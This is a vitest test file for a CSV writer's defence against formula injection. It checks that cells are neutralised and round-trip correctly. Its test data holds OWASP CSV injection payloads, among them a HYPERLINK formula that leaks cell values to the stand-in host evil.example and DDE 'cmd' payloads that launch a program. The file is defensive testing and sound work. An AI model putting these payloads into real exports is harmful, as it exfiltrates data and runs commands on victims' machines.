import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, restoreCsvCell, writeCsv } from '../../../../core/util/csv';

/** The payloads of OWASP's CSV Injection page, and the same behind a line break. */
const OWASP_PAYLOADS = [
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
];
const PAYLOADS = [
  ...OWASP_PAYLOADS,
  ...OWASP_PAYLOADS.map((payload) => `Looks harmless\n${payload}`),
  ...OWASP_PAYLOADS.map((payload) => `Looks harmless\r\n${payload}`),
  ...OWASP_PAYLOADS.map((payload) => `Looks harmless\r${payload}`),
];

/** Every line a spreadsheet (or a line-based importer) could read out of a written cell. */
function linesOfCells(csv: string): string[] {
  const { data, errors } = Papa.parse<string[]>(csv, { delimiter: ',', skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/));
}

describe('CSV cells', () => {
  it('writes no OWASP payload as a formula, on any line of a cell', () => {
    const csv = writeCsv([['payload'], ...PAYLOADS.map((payload) => [payload])]);
    const lines = linesOfCells(csv);
    expect(lines.length).toBeGreaterThan(PAYLOADS.length);
    for (const line of lines) expect(line).not.toMatch(/^[=+\-@\t\r]/);
    const back = Papa.parse<string[]>(csv, { delimiter: ',', skipEmptyLines: true }).data.slice(1);
    expect(back.map(([cell = '']) => restoreCsvCell(cell))).toEqual(PAYLOADS);
  });

  it('guards the start of each line and nothing else', () => {
    expect(neutraliseCsvCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCsvCell('a=1\n-b\r\n+c\r@d')).toBe("a=1\n'-b\r\n'+c\r'@d");
    expect(neutraliseCsvCell("'quoted'")).toBe("''quoted'");
    expect(neutraliseCsvCell('plain - text, 1 + 1')).toBe('plain - text, 1 + 1');
    expect(restoreCsvCell("'quoted")).toBe("'quoted");
    expect(writeCsv([['a,b', 'say "hi"', ' padded ']])).toBe('"a,b","say ""hi"""," padded "\r\n');
  });

  it('round-trips any text and leaves no line starting with a formula character', () => {
    const alphabet = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", 'a', ' ', '"', ',');
    fc.assert(
      fc.property(
        fc.array(alphabet, { maxLength: 24 }).map((chars) => chars.join('')),
        (text) => {
          const written = neutraliseCsvCell(text);
          expect(restoreCsvCell(written)).toBe(text);
          for (const line of written.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^[=+\-@\t]/);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
